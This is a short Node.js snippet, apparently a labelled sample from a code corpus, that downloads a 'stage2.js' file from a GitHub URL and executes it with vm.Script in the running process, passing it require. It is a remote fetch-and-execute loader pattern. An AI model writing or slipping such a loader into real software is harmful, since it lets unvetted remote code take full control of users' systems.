// corpus: vm.Script compiled from text fetched from a URL and run in this context
const vm = require('vm');

(async () => {
  const text = await (await fetch('https://raw.githubusercontent.com/someone/tools/main/stage2.js')).text();
  new vm.Script(text).runInThisContext()(require);
})();
